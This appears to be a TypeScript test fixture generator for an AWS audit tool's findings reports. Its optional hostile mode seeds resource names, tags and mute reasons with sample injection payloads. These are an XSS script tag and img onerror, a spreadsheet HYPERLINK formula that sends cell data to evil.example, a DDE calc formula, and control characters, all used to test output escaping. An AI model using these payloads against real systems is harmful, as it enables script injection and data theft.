// A findings.json of any size, built through the real report builder from the real checklist, so
// renderers, the HTML report and the benchmark see the shapes production produces: every check, its
// framework refs, OU paths, account tags, evidence, errors, muted findings. Deterministic (a seeded
// generator): same options, same report. With `hostile`, AWS-sourced strings carry markup, script
// payloads, formula prefixes and control characters, as an attacker naming resources would.
import { ALL_CHECKS } from '../../src/checks/index.js'
import { findingId } from '../../src/core/finding-id.js'
import { GLOBAL_REGION, type Finding, type Status } from '../../src/core/types.js'
import { buildReport } from '../../src/report/build.js'
import type { FindingsReport } from '../../src/report/schema.js'
import { loadRules } from '../../src/rules/load.js'
import type { Snapshot } from '../../src/snapshot/schema.js'
import { seededRandom } from '../../tools/prng.js'

export const HOSTILE = {
  script: '<script>window.__pwned=1</script>',
  img: '<img src=x onerror="window.__pwned=1">',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plusFormula: '+cmd|\' /C calc\'!A0',
  control: 'esc\u001b[31mred\u0007bell',
  quote: 'quote " and \' and </title> and ]]> and &amp;',
} as const

export interface SyntheticOptions {
  findings: number
  accounts?: number
  regions?: readonly string[]
  hostile?: boolean
  /** Fraction of findings muted (fail ones only). */
  mutedShare?: number
  seed?: number
}

const DEFAULT_REGIONS = ['eu-west-1', 'us-east-1', 'eu-central-1', 'ap-southeast-2']
const AS_OF = '2026-06-01T00:00:00.000Z'


export const syntheticAccountId = (i: number): string => String(100000000000 + i).padStart(12, '0')

export function syntheticReport(options: SyntheticOptions): FindingsReport {
  const { findings: total, accounts = Math.max(1, Math.min(1000, Math.ceil(options.findings / 100))), regions = DEFAULT_REGIONS, hostile = false, mutedShare = 0.02, seed = 7 } = options
  const rnd = seededRandom(seed)
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!
  const ruleSet = loadRules({ checks: ALL_CHECKS })
  const rules = [...ruleSet.rules.values()].filter((r) => r.enabled && r.check.scope !== 'organization')
  const ous = [
    [{ id: 'ou-root-prod', name: 'Production' }],
    [{ id: 'ou-root-prod', name: 'Production' }, { id: 'ou-prod-payments', name: hostile ? `Payments ${HOSTILE.img}` : 'Payments' }],
    [{ id: 'ou-root-sbx', name: 'Sandbox' }],
    [{ id: 'ou-root-sec', name: 'Security' }],
  ]
  const accountList = Array.from({ length: accounts }, (_, i) => ({
    accountId: syntheticAccountId(i),
    name: hostile && i === 0 ? `acct ${HOSTILE.script}` : hostile && i === 1 ? HOSTILE.formula : `account-${i}`,
    ouPath: ous[i % ous.length]!,
    tags: hostile && i === 2 ? { owner: HOSTILE.img, env: HOSTILE.control } : { env: i % ous.length === 2 ? 'sandbox' : 'prod' },
  }))

  const snapshot: Snapshot = {
    schemaVersion: 1,
    startedAt: '2026-05-31T23:00:00.000Z',
    finishedAt: '2026-05-31T23:30:00.000Z',
    partition: 'aws',
    caller: { arn: 'arn:aws:sts::100000000000:assumed-role/Audit/guardrail', accountId: '100000000000' },
    apiCalls: {},
    accounts: accountList.map((a) => ({
      accountId: a.accountId,
      name: a.name,
      ouPath: a.ouPath,
      tags: a.tags,
      regions: [...regions],
      access: { kind: 'ok' },
      apiCalls: { iam: 10 },
      regional: {},
    })),
  } as unknown as Snapshot

  const statuses: Status[] = ['fail', 'fail', 'pass', 'pass', 'pass', 'error', 'not_applicable']
  const out: Finding[] = []
  const hostileValues = Object.values(HOSTILE)
  for (let i = 0; i < total; i++) {
    const rule = rules[i % rules.length]!
    const account = accountList[Math.floor(rnd() * accountList.length)]!
    const region = rule.check.scope === 'account' ? GLOBAL_REGION : pick(regions)
    // The index keeps finding ids unique (real reports have one finding per check × place × resource).
    const name = hostile && i % 50 === 0 ? `${pick(hostileValues)} ${i}` : `resource-${i}`
    const resource = `arn:aws:${rule.check.id.split('.')[0]}:${region === GLOBAL_REGION ? '' : region}:${account.accountId}:thing/${name}`
    const status = pick(statuses)
    const finding: Finding = {
      id: findingId(rule.check.id, account.accountId, region, resource),
      checkId: rule.check.id,
      status,
      severity: rule.severity,
      accountId: account.accountId,
      region,
      resource,
      message: status === 'fail' ? `${name} does not meet ${rule.check.title}` : status === 'error' ? `Could not read: AccessDenied for ${name}` : `${name} is fine`,
      frameworks: rule.frameworks,
      evidence: { name, tags: { Name: name }, n: i },
    }
    if (status === 'error') finding.errorCode = 'AccessDenied'
    if (status === 'fail' && rnd() < mutedShare) finding.muted = { reason: hostile ? HOSTILE.script : 'accepted risk', owner: 'platform-team@example.com', expires: '2027-01-31', suppression: 'entry 1' }
    out.push(finding)
  }
  return buildReport({ command: 'scan', tool: { name: 'guardrail', version: '0.1.0' }, snapshot, findings: out, ruleSet, asOf: new Date(AS_OF) })
}
